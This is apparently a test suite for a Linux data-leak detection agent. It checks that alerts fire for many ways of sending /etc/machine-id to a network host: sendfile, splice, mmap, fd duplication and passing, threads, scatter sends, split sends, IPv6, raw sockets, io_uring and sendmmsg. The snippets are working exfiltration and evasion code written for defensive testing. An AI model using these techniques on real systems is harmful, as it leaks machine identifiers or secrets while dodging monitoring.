# SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
"""Evasion paths: every way to get an identifier file's bytes out without read() + send()."""
import subprocess

from idslib import Agent, POLICY_MACHINE_ID, build_client, expect, expect_eq, run_py


def confirmed_for(agent, pid, what):
    a = agent.wait_alert(process__pid=pid, confidence="confirmed")
    expect_eq(["machine-id"], [i["name"] for i in a["identifiers"]], "identifiers for %s" % what)
    return a


def run_case(host, code, what, *args):
    with Agent(policy_text=POLICY_MACHINE_ID) as agent:
        pid, out = run_py(code, host.addr, *args)
        target = int(out) if out.strip() else pid
        return confirmed_for(agent, target, what)


def test_sendfile_from_the_identifier_file(host):
    a = run_case(host, """
import os, socket, sys
s = socket.create_connection((sys.argv[1], 9000), timeout=5)
fd = os.open("/etc/machine-id", os.O_RDONLY)
os.sendfile(s.fileno(), fd, 0, 64)
""", "sendfile")
    expect_eq("sendfile", a["evidence"]["call"], "evidence.call")


def test_splice_through_a_pipe(host):
    a = run_case(host, """
import os, socket, sys
s = socket.create_connection((sys.argv[1], 9000), timeout=5)
fd = os.open("/etc/machine-id", os.O_RDONLY)
r, w = os.pipe()
n = os.splice(fd, w, 64)
os.splice(r, s.fileno(), n)
""", "splice")
    expect_eq("splice", a["evidence"]["call"], "evidence.call")


def test_mmap_of_the_identifier_file(host):
    run_case(host, """
import mmap, os, socket, sys
fd = os.open("/etc/machine-id", os.O_RDONLY)
m = mmap.mmap(fd, 0, prot=mmap.PROT_READ)
s = socket.create_connection((sys.argv[1], 9000), timeout=5)
s.sendall(bytes(m[:32]))
""", "mmap")


def test_dup_of_the_watched_fd(host):
    run_case(host, """
import os, socket, sys
fd = os.open("/etc/machine-id", os.O_RDONLY)
fd2 = os.dup(fd)
os.close(fd)
v = os.read(fd2, 64)
s = socket.create_connection((sys.argv[1], 9000), timeout=5)
s.sendall(v)
""", "dup")


def test_fd_inherited_across_fork(host):
    run_case(host, """
import os, socket, sys
fd = os.open("/etc/machine-id", os.O_RDONLY)
pid = os.fork()
if pid == 0:
    v = os.read(fd, 64)
    s = socket.create_connection((sys.argv[1], 9000), timeout=5)
    s.sendall(v)
    os._exit(0)
os.waitpid(pid, 0)
print(pid)
""", "inherited fd")


def test_fd_passed_with_scm_rights(host):
    run_case(host, """
import array, os, socket, sys
a, b = socket.socketpair()
pid = os.fork()
if pid == 0:
    a.close()
    msg, anc, flags, addr = b.recvmsg(16, socket.CMSG_LEN(4))
    fd = array.array("i", anc[0][2])[0]
    v = os.read(fd, 64)
    s = socket.create_connection((sys.argv[1], 9000), timeout=5)
    s.sendall(v)
    os._exit(0)
b.close()
fd = os.open("/etc/machine-id", os.O_RDONLY)
a.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [fd]))])
os.waitpid(pid, 0)
print(pid)
""", "SCM_RIGHTS")


def test_reading_and_sending_threads(host):
    run_case(host, """
import socket, sys, threading
box = {}
t = threading.Thread(target=lambda: box.update(v=open("/etc/machine-id").read()))
t.start(); t.join()
def send():
    s = socket.create_connection((sys.argv[1], 9000), timeout=5)
    s.sendall(box["v"].encode())
u = threading.Thread(target=send)
u.start(); u.join()
""", "threads")


def test_writev_and_sendmsg_with_several_buffers(host):
    run_case(host, """
import os, socket, sys
mid = open("/etc/machine-id", "rb").read().strip()
s = socket.create_connection((sys.argv[1], 9000), timeout=5)
os.writev(s.fileno(), [b"a=", mid[:10], mid[10:]])
""", "writev")
    run_case(host, """
import socket, sys
mid = open("/etc/machine-id", "rb").read().strip()
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.sendmsg([b"b=", mid[:7], mid[7:]], [], 0, (sys.argv[1], 9999))
""", "sendmsg")


def test_value_split_across_two_sends(host):
    a = run_case(host, """
import socket, sys, time
mid = open("/etc/machine-id", "rb").read().strip()
s = socket.create_connection((sys.argv[1], 9000), timeout=5)
s.sendall(b"part1=" + mid[:16])
time.sleep(0.2)
s.sendall(mid[16:] + b"&end")
""", "split sends")
    expect("earlier send" in a["evidence"].get("note", ""), "a note on the split, got %r" % a["evidence"])


def test_ipv6_destination(host):
    with Agent(policy_text=POLICY_MACHINE_ID) as agent:
        pid, _ = run_py("""
import socket, sys
s = socket.create_connection((sys.argv[1], 9000), timeout=5)
s.sendall(open("/etc/machine-id", "rb").read())
""", host.addr6)
        a = confirmed_for(agent, pid, "IPv6")
    expect_eq({"family": "ipv6", "addr": host.addr6, "port": 9000, "proto": "tcp"},
              {k: a["destination"][k] for k in ("family", "addr", "port", "proto")}, "destination")


def test_raw_socket_opened_by_a_tainted_process(host):
    with Agent(policy_text=POLICY_MACHINE_ID) as agent:
        pid, _ = run_py("""
import socket
open("/etc/machine-id").read()
r = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
r.close()
""")
        a = agent.wait_alert(process__pid=pid)
    expect_eq("raw", a["evidence"]["channel"], "evidence.channel")
    expect_eq("packet", a["destination"]["proto"], "destination.proto")
    expect_eq("suspected", a["confidence"], "confidence")


def test_io_uring_open_read_connect_send(host):
    exe = build_client("uring_leak", "uring")
    with Agent(policy_text=POLICY_MACHINE_ID) as agent:
        r = subprocess.run([exe, host.addr, "9000"], capture_output=True, text=True, timeout=20)
        expect_eq(0, r.returncode, "uring_leak exit status (stderr %r)" % r.stderr)
        a = confirmed_for(agent, int(r.stdout), "io_uring")
    expect_eq("io_uring", a["evidence"]["call"], "evidence.call")
    expect_eq(9000, a["destination"]["port"], "destination.port")


def test_io_uring_long_send_is_read_past_its_first_sample(host):
    """An io_uring send of 3,000 bytes with the value 2,000 bytes in: its later parts are read as
    a send syscall's are (they were dropped, neither read nor marked truncated)."""
    exe = build_client("uring_leak", "uring")
    with Agent(policy_text=POLICY_MACHINE_ID) as agent:
        r = subprocess.run([exe, host.addr, "9000", "long"], capture_output=True, text=True,
                           timeout=20)
        expect_eq(0, r.returncode, "uring_leak exit status (stderr %r)" % r.stderr)
        a = confirmed_for(agent, int(r.stdout), "io_uring")
    expect_eq("io_uring", a["evidence"]["call"], "evidence.call")
    expect_eq(2000, a["evidence"]["offset"], "evidence.offset")


def test_value_in_the_second_message_of_a_sendmmsg(host):
    exe = build_client("mmsg_leak")
    with Agent(policy_text=POLICY_MACHINE_ID) as agent:
        r = subprocess.run([exe, host.addr, "9999"], capture_output=True, text=True, timeout=20)
        expect_eq(0, r.returncode, "mmsg_leak exit status (stderr %r)" % r.stderr)
        a = confirmed_for(agent, int(r.stdout), "sendmmsg")
    expect_eq("sendmmsg", a["evidence"]["call"], "evidence.call")
    expect_eq(3, a["evidence"]["offset"], "evidence.offset (in the second message)")
